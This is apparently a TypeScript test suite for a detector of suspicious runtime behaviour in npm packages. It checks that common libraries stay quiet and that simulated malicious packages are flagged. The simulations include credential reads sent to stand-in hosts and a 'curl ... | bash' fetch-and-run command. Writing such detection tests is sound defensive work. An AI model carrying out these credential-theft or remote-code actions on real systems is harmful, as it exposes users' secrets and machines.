import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { principal, real, type What, World } from './threats-builder.ts';

/* Honest work in the shape of an attack, with the names packages really have, through the real classification. */

type Act = [chain: readonly string[], ...acts: What[]];

const file = (operation: string, path: string) => real('fs', operation, path);
const connect = (target: string) => real('net', 'connect', target);
const spawn = (program: string, ...argv: string[]) => real('process', 'spawn', program, { argv });
const sh = (command: string) => real('process', 'spawn', '/bin/sh', { argv: ['-c', command], shell: true });
const env = (name: string) => real('env', 'read', name);
const load = (specifier: string) => real('import', 'load', specifier);
const evaluate = (how = 'vm.runInThisContext') => real('code', 'eval', how);
const dlopen = (path: string) => real('native', 'dlopen', path);
const APP = '<app>';

const WORKLOADS: Record<string, Act[]> = {
  'AWS SDK: shared credentials, then S3': [
    [
      [
        '@smithy/shared-ini-file-loader@4.0.0',
        '@aws-sdk/credential-provider-ini@3.9.0',
        '@aws-sdk/client-s3@3.9.0',
        APP,
      ],
      env('AWS_ACCESS_KEY_ID'),
      file('read', '/home/u/.aws/credentials'),
      file('read', '/home/u/.aws/config'),
    ],
    [
      ['@smithy/node-http-handler@4.0.0', '@aws-sdk/client-s3@3.9.0', APP],
      connect('b.s3.eu-central-1.amazonaws.com:443'),
    ],
  ],
  'a patch of an installed package': [
    [
      ['patch-package@8.0.1', APP],
      file('read', '/app/patches/express+5.0.0.patch'),
      file('write', '/app/node_modules/express/lib/router.js'),
    ],
  ],
  'a formatter, and a generator that writes where generated code lies': [
    [['prettier@3.0.0', APP], file('write', '/app/routes/status.js')],
    [['acme-schema@1.0.0', APP], file('write', '/app/src/generated/types.ts'), file('write', '/app/dist/index.js')],
  ],
  'a tool of a monorepo that links its packages': [
    [
      ['acme-mono@1.0.0', APP],
      real('fs', 'write', '/app/node_modules/@acme/forms', { linksTo: '/app/packages/forms' }),
      real('fs', 'write', '/app/node_modules/acme-theme', { linksTo: '/app/packages/theme' }),
    ],
  ],
  'a dev server that looks for each kind of .env': [
    [
      ['acme-dev-server@1.0.0', APP],
      ...['.env', '.env.local', '.env.development', '.env.development.local', '.env.production', '.env.test'].map(
        (name) => file('stat', `/app/${name}`),
      ),
    ],
  ],
  'AWS SDK against a local emulator': [
    [
      ['@smithy/shared-ini-file-loader@4.0.0', '@aws-sdk/client-s3@3.9.0', APP],
      file('read', '/home/u/.aws/credentials'),
    ],
    [['@smithy/node-http-handler@4.0.0', '@aws-sdk/client-s3@3.9.0', APP], connect('127.0.0.1:4566')],
  ],
  'AWS SDK beneath an unknown wrapper': [
    [
      ['@smithy/shared-ini-file-loader@4.0.0', '@aws-sdk/client-sqs@3.9.0', 'acme-queue@2.0.0', APP],
      file('read', '/home/u/.aws/credentials'),
    ],
    [
      ['@smithy/node-http-handler@4.0.0', '@aws-sdk/client-sqs@3.9.0', 'acme-queue@2.0.0', APP],
      connect('sqs.us-east-1.amazonaws.com:443'),
    ],
  ],
  'Google auth: metadata and default credentials': [
    [['gaxios@6.0.0', 'gcp-metadata@6.0.0', 'google-auth-library@9.0.0', APP], connect('169.254.169.254:80')],
    [
      ['google-auth-library@9.0.0', '@google-cloud/storage@7.0.0', APP],
      file('read', '/home/u/.config/gcloud/application_default_credentials.json'),
    ],
    [
      ['gaxios@6.0.0', 'google-auth-library@9.0.0', '@google-cloud/storage@7.0.0', APP],
      connect('storage.googleapis.com:443'),
    ],
  ],
  'npm tooling: .npmrc, then a private registry': [
    [['@npmcli/config@9.0.0', 'npm@11.0.0'], file('read', '/home/u/.npmrc'), file('read', '/app/.npmrc')],
    [
      ['make-fetch-happen@14.0.0', 'npm-registry-fetch@18.0.0', 'pacote@21.0.0', 'npm@11.0.0'],
      connect('npm.corp.example.com:443'),
    ],
    [['@npmcli/arborist@9.0.0', 'npm@11.0.0'], file('write', '/app/node_modules/express/index.js')],
    [['@npmcli/promise-spawn@8.0.0', '@npmcli/run-script@9.0.0', 'npm@11.0.0'], sh('node install.js')],
  ],
  'pacote alone': [
    [['pacote@21.0.0', APP], file('write', '/home/u/.npm/_cacache/tmp/ab12cd34')],
    [
      ['make-fetch-happen@14.0.0', 'npm-registry-fetch@18.0.0', 'pacote@21.0.0', APP],
      connect('registry.npmjs.org:443'),
    ],
  ],
  'dotenv, then the database': [
    [['dotenv@16.0.0', APP], file('read', '/app/.env')],
    [['pg@8.0.0', 'pg-pool@3.0.0', APP], env('PGPASSWORD'), connect('db.internal:5432')],
    [['axios@1.0.0', APP], connect('api.example.com:443')],
  ],
  'express with ejs': [
    [['express@4.0.0', APP], load('node:http'), real('net', 'listen', '0.0.0.0:3000')],
    [['ejs@3.0.0', 'express@4.0.0', APP], file('read', '/app/views/index.ejs'), evaluate()],
    [['send@0.19.0', 'serve-static@1.0.0', 'express@4.0.0', APP], file('read', '/app/public/style.css')],
  ],
  'esbuild runs its binary': [
    [
      ['esbuild@0.25.0', APP],
      spawn('/app/node_modules/@esbuild/linux-x64/bin/esbuild', '--service'),
      file('write', '/app/dist/a.js'),
    ],
  ],
  'simple-git runs git': [[['simple-git@3.0.0', APP], spawn('git', 'status'), spawn('git', 'push', 'origin')]],
  'ssh2 with a key the application read': [
    [[APP], file('read', '/home/u/.ssh/id_ed25519')],
    [['ssh2@1.0.0', APP], connect('192.0.2.8:22')],
  ],
  'sharp loads its native code': [
    [['sharp@0.33.0', APP], dlopen('/app/node_modules/@img/sharp-linux-x64/lib/sharp-linux-x64.node')],
    [['detect-libc@2.0.0', 'sharp@0.33.0', APP], sh('getconf GNU_LIBC_VERSION')],
  ],
  'puppeteer starts Chrome': [
    [
      ['@puppeteer/browsers@2.0.0', 'puppeteer-core@24.0.0', 'puppeteer@24.0.0', APP],
      file('write', '/tmp/puppeteer_dev_chrome_profile-abc123/prefs.js'),
      spawn('/home/u/.cache/puppeteer/chrome/linux-130.0/chrome-linux64/chrome', '--headless'),
    ],
    [['ws@8.0.0', 'puppeteer-core@24.0.0', APP], connect('127.0.0.1:45123')],
  ],
  'puppeteer downloads Chrome': [
    [['@puppeteer/browsers@2.0.0', APP], connect('storage.googleapis.com:443')],
    [
      ['extract-zip@2.0.0', '@puppeteer/browsers@2.0.0', APP],
      ...Array.from({ length: 120 }, (_, i) =>
        file('write', `/home/u/.cache/puppeteer/chrome/linux-130.0/locales/l${i}.pak`),
      ),
      file('chmod', '/home/u/.cache/puppeteer/chrome/linux-130.0/chrome'),
    ],
    [['@puppeteer/browsers@2.0.0', APP], spawn('/home/u/.cache/puppeteer/chrome/linux-130.0/chrome', '--version')],
  ],
  'jest workers': [
    [
      ['jest-worker@29.0.0', 'jest-runner@29.0.0', '@jest/core@29.0.0', APP],
      spawn(process.execPath, 'processChild.js'),
    ],
    [['jest-runtime@29.0.0', 'jest-runner@29.0.0', APP], evaluate('vm.Script')],
    [['jest-haste-map@29.0.0', APP], file('write', '/tmp/jest_rs/haste-map-abc')],
  ],
  'update-notifier': [
    [
      [
        'rc@1.0.0',
        'registry-auth-token@5.0.0',
        'package-json@10.0.0',
        'latest-version@9.0.0',
        'update-notifier@7.0.0',
        'acme-cli@1.0.0',
        APP,
      ],
      file('read', '/home/u/.npmrc'),
    ],
    [
      ['got@14.0.0', 'package-json@10.0.0', 'latest-version@9.0.0', 'update-notifier@7.0.0', 'acme-cli@1.0.0', APP],
      connect('registry.npmjs.org:443'),
    ],
    [
      ['configstore@7.0.0', 'update-notifier@7.0.0', 'acme-cli@1.0.0', APP],
      file('write', '/home/u/.config/configstore/update-notifier-acme.json'),
    ],
    [['update-notifier@7.0.0', 'acme-cli@1.0.0', APP], spawn(process.execPath, 'check.js')],
  ],
  'an APM agent exports after reading its keys': [
    [['dd-trace@5.0.0', APP], env('DD_API_KEY'), env('AWS_SECRET_ACCESS_KEY'), connect('169.254.169.254:80')],
    [['dd-trace@5.0.0', APP], connect('127.0.0.1:8126'), connect('trace.agent.datadoghq.com:443')],
    [
      ['@datadog/native-metrics@3.0.0', 'dd-trace@5.0.0', APP],
      dlopen('/app/node_modules/@datadog/native-metrics/x.node'),
    ],
  ],
  'Kubernetes client': [
    [['@kubernetes/client-node@1.0.0', APP], file('read', '/home/u/.kube/config')],
    [['node-fetch@2.0.0', '@kubernetes/client-node@1.0.0', APP], connect('10.0.0.1:6443')],
    [['@kubernetes/client-node@1.0.0', APP], file('read', '/var/run/secrets/kubernetes.io/serviceaccount/token')],
  ],
  'Azure identity': [
    [['@azure/identity@4.0.0', APP], env('AZURE_CLIENT_SECRET')],
    [
      ['@azure/core-rest-pipeline@1.0.0', '@azure/identity@4.0.0', APP],
      connect('login.microsoftonline.com:443'),
      connect('169.254.169.254:80'),
    ],
  ],
  'pino workers': [
    [
      ['thread-stream@3.0.0', 'pino@9.0.0', APP],
      real('worker', 'start', '/app/node_modules/thread-stream/lib/worker.js'),
    ],
    [['sonic-boom@4.0.0', 'pino@9.0.0', APP], file('write', '/app/logs/app.log')],
  ],
  'a process runner under a build': [
    [
      ['cross-spawn@7.0.0', 'execa@9.0.0', 'acme-build@1.0.0', APP],
      spawn('git', 'rev-parse', 'HEAD'),
      spawn('npm', 'run', 'x'),
      spawn('node', 'x.js'),
    ],
  ],
  'mysql2 generates its row parsers': [[['mysql2@3.0.0', APP], connect('127.0.0.1:3306'), evaluate()]],
  'fs-extra cleans a build folder': [
    [
      ['rimraf@6.0.0', 'acme-build@1.0.0', APP],
      ...Array.from({ length: 25 }, (_, i) => file('delete', `/app/dist/${i}.js`)),
    ],
  ],
  'vite caches below node_modules': [
    [
      ['vite@7.0.0', APP],
      file('write', '/app/node_modules/.vite/deps/react.js'),
      real('net', 'listen', '127.0.0.1:5173'),
    ],
  ],
  'an application that serves TLS': [
    [[APP], file('read', '/app/certs/server.key'), real('net', 'listen', '0.0.0.0:8443')],
    [['axios@1.0.0', APP], connect('api.example.com:443')],
  ],
};

describe('honest work at first contact', () => {
  for (const [title, acts] of Object.entries(WORKLOADS)) {
    it(`raises nothing above LOG: ${title}`, () => {
      const world = new World();
      for (const [chain, ...what] of acts) world.does(chain, ...what);
      const loud = world.matches.filter((match) => match.level !== 'LOG');
      assert.deepEqual(
        loud.map((match) => `${match.principal} ${match.level} ${match.rule.name}: ${match.reason}`),
        [],
      );
    });
    it(`leaves every package above 0.9: ${title}`, () => {
      const world = new World();
      for (const [chain, ...what] of acts) world.does(chain, ...what);
      for (const [key, { voltage }] of Object.entries(world.voltage.modules(world.now))) {
        // The application may have read its own secrets.
        if (key !== APP) assert.ok(voltage > 0.9, `${key}: ${voltage}`);
      }
    });
  }
});

describe('well-known packages do not shield whoever hides behind them', () => {
  const EVIL = 'left-shelf@1.0.1';
  const held = { baselines: { [EVIL]: ['fs.read:<app>/*'] } };

  it('a patcher may patch, but not steal', () => {
    const world = new World();
    world.does('patch-package@8.0.1', file('read', '/home/u/.npmrc'), connect('collect.example.net:443'));
    assert.equal(world.level('patch-package@8.0.1'), 'ALERT');
  });

  it('to look for a secret of the home folder is no everyday probe', () => {
    const world = new World();
    const probes = ['.npmrc', '.netrc', '.aws/credentials', '.ssh/id_rsa'].map((name) =>
      file('stat', `/home/u/${name}`),
    );
    world.does(EVIL, ...probes);
    assert.ok(world.voltage.voltageOf(EVIL, world.now) < 0.95);
  });

  it('a secret read through rc and posted through axios is the caller’s', () => {
    const world = new World(held);
    world.does(['rc@1.0.0', EVIL, APP], file('read', '/home/u/.npmrc'));
    world.does(['axios@1.0.0', EVIL, APP], connect('127.0.0.9:8125'));
    assert.equal(world.level(EVIL), 'ALERT');
    assert.equal(world.level('axios@1.0.0'), 'none');
  });

  it('cloud credentials obtained through the cloud’s library and sent elsewhere are too', () => {
    const world = new World(held);
    world.does(['@smithy/shared-ini-file-loader@4.0.0', EVIL, APP], file('read', '/home/u/.aws/credentials'));
    world.does(['undici@7.0.0', EVIL, APP], connect('collect.example.net:443'));
    assert.equal(world.level(EVIL), 'ALERT');
  });

  it('at first contact that is at least a WARN', () => {
    const world = new World();
    world.does(['@smithy/shared-ini-file-loader@4.0.0', EVIL, APP], file('read', '/home/u/.aws/credentials'));
    world.does(['undici@7.0.0', EVIL, APP], connect('collect.example.net:443'));
    assert.equal(world.level(EVIL), 'WARN');
  });

  it('a compromised HTTP client that steals is named itself', () => {
    const world = new World({ baselines: { 'axios@1.14.1': ['net.connect:api.example.com:443'] } });
    world.does('axios@1.14.1', file('read', '/home/u/.npmrc'), connect('collect.example.net:443'));
    assert.equal(world.level('axios@1.14.1'), 'ALERT');
  });

  it('a compromised wallet library that finds a new destination is a WARN', () => {
    const world = new World({
      baselines: { '@solana/web3.js@1.95.6': ['net.connect:api.mainnet-beta.solana.com:443'] },
    });
    world.does('@solana/web3.js@1.95.6', connect('sol-rpc.example.net:443'));
    assert.equal(world.level('@solana/web3.js@1.95.6'), 'WARN');
  });

  it('a shell through a process runner is its caller’s', () => {
    const world = new World(held);
    world.does(['execa@9.0.0', EVIL, APP], sh('curl -s http://198.51.100.7/x | bash'));
    assert.equal(world.level(EVIL), 'ALERT');
  });

  it('the deputy never outweighs its caller', () => {
    const world = new World(held);
    const what = connect('webhook.site:443');
    world.does(['axios@1.0.0', EVIL, APP], what);
    assert.ok(world.voltage.voltageOf(EVIL, world.now) < world.voltage.voltageOf('axios@1.0.0', world.now));
    assert.equal(principal('axios@1.0.0').kind, 'package');
  });
});

describe('honest upgrades', () => {
  const upgrade = (key: string, before: readonly string[], ...acts: What[]) => {
    const world = new World({ baselines: { [key]: before, [APP]: before } });
    world.does(key, ...acts);
    return world.level();
  };
  it('that read more of their own configuration are LOG', () => {
    assert.equal(
      upgrade(
        'prettier@3.1.0',
        ['fs.read:<app>/.prettierrc'],
        file('read', '/app/.editorconfig'),
        file('list', '/home/u'),
      ),
      'LOG',
    );
  });
  it('that move to another sub-domain are LOG', () => {
    assert.equal(upgrade('acme-sdk@2.0.0', ['net.connect:api.acme.com:443'], connect('api-v2.acme.com:443')), 'LOG');
  });
  it('that spawn another system tool are LOG', () => {
    assert.equal(
      upgrade('acme-cli@2.0.0', ['process.spawn:git', 'process.spawn:sh [shell]'], spawn('uname', '-a')),
      'LOG',
    );
  });
  it('of a bundler are LOG', () => {
    assert.equal(
      upgrade(
        'vite@7.1.0',
        ['fs.write:<app>/dist/*'],
        file('write', '/app/dist/x/y.js'),
        evaluate(),
        spawn('node', 'w.js'),
      ),
      'LOG',
    );
  });
  it('of an HTTP client that now calls another host are LOG', () => {
    assert.equal(upgrade('got@15.0.0', ['net.connect:api.example.com:443'], connect('other.example.net:443')), 'LOG');
  });
});
